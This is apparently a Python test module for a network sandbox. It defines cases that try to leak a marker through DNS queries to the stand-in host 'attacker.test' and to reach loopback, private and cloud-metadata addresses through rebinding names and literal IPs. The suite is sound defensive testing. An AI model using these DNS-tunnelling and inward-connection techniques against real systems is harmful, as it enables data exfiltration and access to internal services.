"""Names as a way out, and names that lead where no host should: 53 at the host's resolver is watched, and so
are addresses of loopback, private networks and metadata services, all behind walls."""

import os
import socket
import struct

from inside import Family

# public.test has an ordinary address there, and a grant without `address`.
family = Family("names", __doc__, jail=True, control=("public.test", "/pub/"))
SERVER = "127.0.0.53"


def query(name, kind, *more):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1) + b"".join(more)


def resolver(t):
    """What the program is told to ask."""
    with open("/etc/resolv.conf", encoding="utf-8") as f:
        return [line.split()[1] for line in f if line.startswith("nameserver")][0]


def ask(t, name, kind, server=None, tcp=False):
    data = query(name, kind)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM) as s:
        s.settimeout(1.0)
        s.connect((server or resolver(t), 53))
        s.sendall(struct.pack("!H", len(data)) + data if tcp else data)
        return s.recv(2048)


for kind, number in {"a": 1, "ns": 2, "cname": 5, "null": 10, "ptr": 12, "mx": 15, "txt": 16, "aaaa": 28, "srv": 33, "svcb": 64,
                     "https": 65, "any": 255, "unknown": 65399}.items():
    family.add("type-" + kind, "bytes", lambda t, n=number: ask(t, f"{t.mark}.attacker.test", n), "a name that carries data")


@family.attack("bytes")
def by_library(t):
    try:
        socket.getaddrinfo(f"{t.mark}.attacker.test", 443)
    except socket.gaierror:
        pass


@family.attack("bytes")
def long_labels(t):
    label = (t.mark * 4)[:63]
    ask(t, ".".join([label] * 3) + ".attacker.test", 1)


@family.attack("bytes")
def below_a_granted_name(t):
    ask(t, f"{t.mark}.open.test", 1)


@family.attack("bytes")
def many_names(t):
    for i in range(300):
        ask(t, f"{i}.{t.mark}.attacker.test", 1)


@family.attack("bytes")
def over_tcp(t):
    ask(t, f"{t.mark}.attacker.test", 1, tcp=True)


@family.attack("bytes")
def another_server(t):
    ask(t, f"{t.mark}.attacker.test", 1, SERVER)


@family.attack("bytes")
def another_server_public(t):
    ask(t, f"{t.mark}.attacker.test", 1, "11.22.33.55")


@family.attack("bytes")
def another_server_unconnected(t):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(query(f"{t.mark}.attacker.test", 1), ("11.22.33.55", 53))


@family.attack("bytes")
def behind_the_question(t):
    """What stands behind a question, in a record that means nothing."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((resolver(t), 53))
        s.send(query("open.test", 1) + t.mark.encode())


@family.attack("bytes")
def in_an_option(t):
    """An EDNS option beside a granted name's question."""
    option = struct.pack("!HH", 65001, len(t.mark)) + t.mark.encode()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((resolver(t), 53))
        s.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 1) + query("public.test", 1)[12:] + b"\0" + struct.pack("!HHIH", 41, 1232, 0, len(option)) + option)


@family.attack("bytes")
def second_question(t):
    """Two questions in a message, the first of a granted name."""
    two = query("public.test", 1)[12:] + query(f"{t.mark}.attacker.test", 1)[12:]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((resolver(t), 53))
        s.send(struct.pack("!HHHHHH", 7, 0x100, 2, 0, 0, 0) + two)


@family.attack("bytes")
def loop_of_pointers(t):
    """A name that points to itself, and then an honest one."""
    loop = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\3abc\xc0\x0c" + struct.pack("!HH", 1, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect((resolver(t), 53))
        s.send(loop)
        s.send(query(f"{t.mark}.attacker.test", 1))


@family.attack("bytes")
def pipelined_over_tcp(t):
    """Hundreds of questions in one stream, cut anywhere."""
    data = b"".join(struct.pack("!H", len(q)) + q for q in (query(f"{i}.{t.mark}.attacker.test", 1) for i in range(200)))
    with socket.create_connection((resolver(t), 53), timeout=3) as s:
        for i in range(0, len(data), 1001):
            s.sendall(data[i:i + 1001])
        t.drain(s, 2)


@family.attack("bytes")
def connected_to(t):
    """The name is not looked up outside when it is only connected to."""
    t.request(f"{t.mark}.attacker.test", "/")


@family.attack("bytes")
def connected_below_granted(t):
    t.request(f"{t.mark}.public.test", "/")


# --- names that lead inwards ----------------------------------------------------------------------------


def inward(name, address, about=""):
    def run(t):
        t.request(f"{name}.rebind.test", f"/pub/{t.mark}")
    family.add("leads-to-" + name, f"connected:{address}", run, about or f"a name whose address is {address}")


# Below, these are also where the host's resolver leads NAME.rebind.test (see run).
INWARD = {"loopback": "127.0.0.1", "loopback-other": "127.7.7.7", "private-10": "10.66.0.5", "private-172": "172.16.5.5", "private-192": "192.168.5.5",
          "metadata": "169.254.169.254", "shared": "100.64.0.7", "benchmark": "198.19.5.5", "unspecified": "0.0.0.0",
          "nat64": "64:ff9b::a42:5", "six-to-four": "2002:a42:5::1", "site": "fec0::5", "compatible": "::10.66.0.5", "translated": "::ffff:0:a42:5",
          "six-loopback": "::1", "six-local": "fd00::5", "six-mapped": "::ffff:127.0.0.1"}
for word, address in INWARD.items():
    inward(word, "127.0.0.1" if address in ("0.0.0.0", "::ffff:127.0.0.1") else address)


@family.attack("connected:10.66.0.5")
def leads_to_two(t):
    """An ordinary address first, a private one behind it."""
    t.request("two.rebind.test", f"/pub/{t.mark}")


family["leads-to-two"].effect = "connected:10.66.0.5"


@family.attack("connected:10.66.0.5")
def leads_elsewhere_later(t):
    """Ordinary at the first look, private at the second."""
    for _ in range(3):
        try:
            t.request("later.rebind.test", f"/pub/{t.mark}")
        except OSError:
            pass


@family.attack("connected:127.0.0.1")
def localhost_of_the_host(t):
    """The host's own, under a name of its own."""
    t.request("localhost.rebind.test", f"/pub/{t.mark}")


# --- addresses without a name -----------------------------------------------------------------------------


def literal(name, address, port=443, effect=None):
    def run(t):
        family_of = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family_of, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            s.connect((address, port))
            s.sendall(t.mark.encode() + b"\r\n\r\n")
            t.drain(s, 1)
    family.add("literal-" + name, effect or f"connected:{address.removeprefix(chr(58) * 2 + 'ffff:')}", run)


literal("public", "11.22.33.55")
literal("public-six", "2606:4700:dead::5")
literal("loopback", "127.0.0.1")
literal("loopback-other", "127.7.7.7")
literal("private", "10.66.0.5")
literal("metadata", "169.254.169.254", 80)
literal("mapped", "::ffff:11.22.33.55")
literal("mapped-loopback", "::ffff:127.0.0.1")
literal("unspecified", "0.0.0.0", effect="connected:127.0.0.1")
literal("server", SERVER, 53)


@family.attack("bytes")
def literal_odd_spelling(t):
    """The library reads 185999660 as an address."""
    with socket.create_connection((str(int.from_bytes(socket.inet_aton("11.22.33.55"), "big")), 443), timeout=3) as s:
        s.sendall(t.mark.encode() + b"\r\n\r\n")
        t.drain(s, 1)


@family.attack()
def literal_in_host(t):
    t.request("public.test", f"/pub/{t.mark}", host="11.22.33.44")


@family.attack("connected:198.19.5.5")
def never_handed_out(t):
    """An address of ours that no name has: inside it is a guess, natively one of the lo's."""
    with socket.create_connection(("198.19.5.5" if t.native else "198.19.77.77", 443), timeout=3) as s:
        s.sendall(t.mark.encode() + b"\r\n\r\n")
        t.drain(s, 1)
